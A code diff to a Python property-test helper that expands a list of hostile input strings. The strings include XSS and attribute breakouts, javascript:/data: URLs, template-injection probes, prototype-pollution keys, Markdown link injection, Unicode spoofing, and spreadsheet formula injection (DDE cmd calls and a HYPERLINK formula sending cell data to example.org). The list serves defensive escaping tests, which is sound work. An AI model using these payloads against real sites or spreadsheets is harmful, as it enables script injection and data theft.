@@ -129,15 +129,78 @@ def checklist_of(sections: list[list[str]], weights: tuple[int, int, int] = (5, 
 # --- text -------------------------------------------------------------------------------------------------------------
 
 HOSTILE = (
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "</textarea><script>alert(1)</script>",
-    "{{ 7 * 7 }}",
-    "&lt;b&gt;",
+    # HTML that ends what it stands in
+    "<script>window.pwned = 1</script>",
+    '"><img src=x onerror=window.pwned=1>',
+    "' onmouseover='window.pwned=1' x='",
+    '" autofocus onfocus=window.pwned=1 x="',
+    "</textarea><script>window.pwned = 1</script>",
+    "</title></style></noscript></template></svg><svg onload=window.pwned=1>",
+    "--><script>window.pwned = 1</script><!--",
+    "]]><script>window.pwned = 1</script>",
+    "<a href=//example.org>x</a><base href=https://example.org/>",
+    "<meta http-equiv=refresh content='0; url=https://example.org/'>",
+    "<form action=https://example.org/><button formaction=javascript:window.pwned=1>x",
+    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
+    "</div></td></table></details>",
+    "<p class=ok-problem>",
+    "&lt;b&gt; &#60;script&#62; &amp;lt;",
     "'\"`",
-    "\x00\x1b",
+    # addresses
+    "javascript:window.pwned=1",
+    "JaVa\tScRiPt&colon;window.pwned=1",
+    "\x01javascript:window.pwned=1",
+    "data:text/html,<script>window.pwned = 1</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:MsgBox(1)",
+    "https://example.org/?a='onmouseover='window.pwned=1&b=javascript:window.pwned=1",
+    "//example.org/\\example.org",
+    # styles
+    "</style><style>* { background: url(https://example.org/) }</style>",
+    "x; background: url(javascript:window.pwned=1); width: expression(window.pwned=1)",
+    # JSON and scripts
+    '"}</script><script>window.pwned = 1</script>',
+    '{"__proto__": {"pwned": 1}}',
+    "\\u003cscript\\u003e \\x3c \\",
+    "');window.pwned=1;('",
+    "__proto__",
+    "constructor",
+    # templates and formats
+    "{{ 7 * 7 }}",
+    "{{ ''.__class__.__mro__ }}",
+    "{% include 'frame.html.jinja' %}{# #}",
+    "${7 * 7} #{7 * 7} <%= 7 * 7 %>",
+    "%(a)s %s {0} {a.b}",
+    # Markdown
+    "[x](javascript:window.pwned=1) ![x](https://example.org/a.png)",
+    "[x]: javascript:window.pwned=1 'x'",
+    "# x\n\n</div>\n\n<script>window.pwned = 1</script>\n\n",
+    '</div>\n<div markdown="1">\n\n* [x](javascript:window.pwned=1)',
+    "| a | b |\n|---|---|\n| c | d |",
+    "```html\n<script>window.pwned = 1</script>\n```",
+    "x { #y .z onclick=window.pwned=1 }\n{: onclick=window.pwned=1 }",
+    "`</code><script>window.pwned = 1</script>`",
+    "*x* **x** _x_ __x__ ~~x~~ <https://example.org/>",
+    "*[x]: y\n[^1]: z\n!!! note\n    x",
+    # spreadsheets
+    '=HYPERLINK("https://example.org/?a="&A1, "x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\uff1d1+1",
+    # signs that are not seen, and what stands for nothing
+    "\x00\x1b[2J",
+    "<scr\x00ipt>window.pwned = 1</scr\x00ipt>",
+    "a\u2028b\u2029c\x85d",
+    "\u202egnp.exe\u2066 \u200b\ufeff",
+    "\ufffe\uffff<b>\U000e0001",
+    "null",
+    "undefined",
+    "NaN",
+    "a\u0337\u0338\u0335 \U0001f3f4\u200d\u2620\ufe0f",
 )
-"""What has broken pages that printed it as it came."""
+"""What has broken pages, files and spreadsheets that passed it on as it came. None is longer than the shortest field takes."""
 
 
 def texts(max_size: int = 40) -> st.SearchStrategy[str]:
